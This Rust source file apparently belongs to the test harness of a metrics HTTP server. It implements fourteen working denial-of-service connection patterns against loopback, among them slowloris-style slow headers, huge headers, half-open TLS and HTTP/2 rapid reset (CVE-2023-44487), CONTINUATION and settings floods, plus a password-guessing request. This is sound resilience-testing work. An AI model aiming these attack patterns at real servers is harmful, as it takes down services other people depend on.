//! The attacks: connections that do harm, each as long as the server lets it.
//!
//! A thread drives many of them: each does a little in turn, and one that was closed is made anew. They go to loopback
//! alone and end when told to. What they say is made in `client`.

use std::io::{self, ErrorKind, Read, Write};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use super::client::{self, END_HEADERS, END_STREAM, Stream, Target, frame};

/// A kind of attack.
#[derive(Clone, Copy)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Whether it is one on TLS, or on what is spoken over it.
    pub(crate) secure: bool,
    /// Makes one connection.
    open: fn(&Target) -> io::Result<Hostile>,
}

/// A connection of an attacker.
pub(crate) struct Hostile {
    stream: Stream,
    /// What it sends each time.
    again: Vec<u8>,
    /// What is left of that.
    rest: Vec<u8>,
    reads: bool,
}

/// An attack under way; it ends when dropped.
pub(crate) struct UnderAttack {
    end: Arc<AtomicBool>,
    made: Arc<AtomicUsize>,
    thread: Option<JoinHandle<()>>,
}

/// All of them.
pub(crate) const ATTACKS: [Attack; 14] = [
    Attack { name: "idle connections", secure: false, open: idle },
    Attack { name: "slow heads", secure: false, open: slow_head },
    Attack { name: "slow reads", secure: false, open: slow_read },
    Attack { name: "huge heads", secure: false, open: huge_head },
    Attack { name: "garbage", secure: false, open: garbage },
    Attack { name: "pipelining", secure: false, open: pipelining },
    Attack { name: "half-open TLS", secure: true, open: half_open },
    Attack { name: "idle TLS", secure: true, open: idle },
    Attack { name: "h2 rapid reset", secure: true, open: rapid_reset },
    Attack { name: "h2 pings", secure: true, open: pings },
    Attack { name: "h2 settings", secure: true, open: settings },
    Attack { name: "h2 continuation", secure: true, open: continuation },
    Attack { name: "h2 empty frames", secure: true, open: empty_frames },
    Attack { name: "h2 slow reads", secure: true, open: unread_streams },
];

/// Guesses of a password; they take a server that asks for one.
pub(crate) const GUESSES: Attack = Attack { name: "passwords", secure: false, open: guess };

impl Attack {
    /// Lets so many connections loose, with this pause after each has had its turn.
    pub(crate) fn start(self, target: Target, connections: usize, pause: Duration) -> UnderAttack {
        let (end, made) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
        let thread = std::thread::spawn({
            let (end, made) = (Arc::clone(&end), Arc::clone(&made));
            move || {
                let mut open: Vec<Option<Hostile>> = (0..connections).map(|_| None).collect();
                while !end.load(Ordering::Relaxed) {
                    for place in &mut open {
                        if end.load(Ordering::Relaxed) {
                            return;
                        }
                        if place.as_mut().is_none_or(|hostile| hostile.go_on().is_err()) {
                            // One that was refused is tried again in the next round.
                            *place = (self.open)(&target).ok();
                            made.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                    std::thread::park_timeout(pause);
                }
            }
        });
        UnderAttack { end, made, thread: Some(thread) }
    }
}

impl UnderAttack {
    /// How many connections were made so far.
    pub(crate) fn made(&self) -> usize {
        self.made.load(Ordering::Relaxed)
    }
}

impl Drop for UnderAttack {
    fn drop(&mut self) {
        self.end.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            thread.thread().unpark();
            // It has nothing to tell.
            drop(thread.join());
        }
    }
}

impl Hostile {
    /// Says something first, and something again and again.
    fn new(mut stream: Stream, first: &[u8], again: Vec<u8>, reads: bool) -> io::Result<Self> {
        stream.write_all(first)?;
        stream.flush()?;
        stream.hurry()?;
        Ok(Self { stream, again, rest: Vec::new(), reads })
    }

    /// Does a little; fails once the connection is closed.
    fn go_on(&mut self) -> io::Result<()> {
        if self.rest.is_empty() {
            self.rest.clone_from(&self.again);
        }
        if !self.rest.is_empty() {
            let written = unless_full(self.stream.write(&self.rest))?.unwrap_or(0);
            self.rest.drain(..written);
            unless_full(self.stream.flush())?;
        }
        if self.reads {
            let mut buffer = [0; 1 << 13];
            while let Some(read) = unless_full(self.stream.read(&mut buffer))? {
                if read == 0 {
                    return Err(ErrorKind::UnexpectedEof.into());
                }
            }
        }
        Ok(())
    }
}

/// What came of it, or nothing where it would have to wait.
fn unless_full<T>(result: io::Result<T>) -> io::Result<Option<T>> {
    match result {
        Ok(done) => Ok(Some(done)),
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(None),
        Err(error) => Err(error),
    }
}

fn idle(target: &Target) -> io::Result<Hostile> {
    Hostile::new(target.connect()?, b"", Vec::new(), true)
}

fn slow_head(target: &Target) -> io::Result<Hostile> {
    Hostile::new(target.connect()?, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"a".to_vec(), true)
}

fn slow_read(target: &Target) -> io::Result<Hostile> {
    let request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n";
    Hostile::new(target.connect_narrowly()?, request, request.to_vec(), false)
}

fn huge_head(target: &Target) -> io::Result<Hostile> {
    let line = format!("X-Large: {}\r\n", "a".repeat(8_000)).repeat(8);
    Hostile::new(target.connect()?, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n", line.into_bytes(), true)
}

fn garbage(target: &Target) -> io::Result<Hostile> {
    let bytes = std::iter::repeat_with(|| fastrand::u8(..)).take(4096).collect();
    Hostile::new(target.connect()?, b"", bytes, true)
}

fn pipelining(target: &Target) -> io::Result<Hostile> {
    let requests = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(100);
    Hostile::new(target.connect()?, b"", requests, true)
}

fn guess(target: &Target) -> io::Result<Hostile> {
    // known:wrong
    let request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic a25vd246d3Jvbmc=\r\n\r\n";
    Hostile::new(target.connect()?, b"", request.to_vec(), true)
}

/// Begins TLS and never ends to.
fn half_open(target: &Target) -> io::Result<Hostile> {
    let plain = Target { tls: None, ..target.clone() };
    let hello = target.hello()?;
    Hostile::new(plain.connect()?, &hello[..hello.len() / 2], Vec::new(), true)
}

/// CVE-2023-44487. The numbers of the streams have to rise, so a connection is as good as its list is long.
fn rapid_reset(target: &Target) -> io::Result<Hostile> {
    let requests = (0..500_u32).flat_map(|number| {
        let (stream, cancel) = (2 * number + 1, 8_u32.to_be_bytes());
        let request = frame(client::HEADERS, END_HEADERS | END_STREAM, stream, &client::head("/metrics"));
        [request, frame(client::RESET, 0, stream, &cancel)].concat()
    });
    let first: Vec<u8> = client::preface().into_iter().chain(requests).collect();
    Hostile::new(target.connect()?, &first, frame(client::PING, 0, 0, &[0; 8]), true)
}

fn pings(target: &Target) -> io::Result<Hostile> {
    Hostile::new(target.connect()?, &client::preface(), frame(client::PING, 0, 0, &[0; 8]).repeat(500), true)
}

fn settings(target: &Target) -> io::Result<Hostile> {
    // The largest table of headers that there may be, and then none.
    let table = |size: u32| frame(client::SETTINGS, 0, 0, &[&[0, 1][..], &size.to_be_bytes()].concat());
    let again = [table(u32::MAX), table(0)].concat().repeat(250);
    Hostile::new(target.connect()?, &client::preface(), again, true)
}

/// A head that never ends.
fn continuation(target: &Target) -> io::Result<Hostile> {
    let head = frame(client::HEADERS, END_STREAM, 1, &client::head("/metrics"));
    // A line that is not kept in any table: x: aaa…
    let line = [&[0x00, 0x01, b'x', 0x64][..], &[b'a'; 100]].concat();
    let again = frame(client::CONTINUATION, 0, 1, &line).repeat(100);
    Hostile::new(target.connect()?, &[client::preface(), head].concat(), again, true)
}

/// A body without end and without content.
fn empty_frames(target: &Target) -> io::Result<Hostile> {
    let head = frame(client::HEADERS, END_HEADERS, 1, &client::head("/metrics"));
    let again = frame(client::DATA, 0, 1, b"").repeat(500);
    Hostile::new(target.connect()?, &[client::preface(), head].concat(), again, true)
}

/// As many answers as are given, without a window to send them in.
fn unread_streams(target: &Target) -> io::Result<Hostile> {
    // SETTINGS_INITIAL_WINDOW_SIZE (4) of 0.
    let closed = frame(client::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let requests = (0..100_u32)
        .flat_map(|number| frame(client::HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &client::head("/metrics")));
    let first: Vec<u8> = [client::preface(), closed].concat().into_iter().chain(requests).collect();
    // It seems alive.
    Hostile::new(target.connect()?, &first, frame(client::PING, 0, 0, &[0; 8]), true)
}
